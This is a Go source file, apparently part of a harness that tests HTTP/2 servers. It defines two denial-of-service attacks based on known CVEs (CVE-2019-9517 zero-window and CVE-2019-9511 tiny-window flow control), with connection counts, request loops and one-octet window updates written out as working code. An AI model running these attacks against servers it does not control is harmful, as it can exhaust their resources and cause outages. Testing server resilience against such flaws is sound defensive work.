package main

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// zeroWindow asks for large bodies, and gives no window to send them.
var zeroWindow = &attack{
	name: "zero-window", what: "250 large bodies a connection, and windows of 0 (CVE-2019-9517)", conns: 32,
	settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
	run: func(ctx context.Context, e *enemy) error {
		for range 250 {
			if _, err := e.get("/large"); err != nil {
				return err
			}
		}
		return e.wait(ctx, time.Minute)
	},
}

// tinyWindow opens the windows octet by octet.
var tinyWindow = &attack{
	name: "tiny-window", what: "large bodies, and windows that open by an octet at a time (CVE-2019-9511)",
	settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, credit: 1 << 30,
	run: func(ctx context.Context, e *enemy) error {
		var ids []uint32
		for range 100 {
			id, err := e.get("/large")
			if err != nil {
				return err
			}
			ids = append(ids, id)
		}
		for ctx.Err() == nil {
			for _, id := range ids {
				if err := e.alive(e.fr.WriteWindowUpdate(id, 1)); err != nil {
					return err
				}
			}
			if err := e.flush(); err != nil {
				return err
			}
		}
		return nil
	},
}
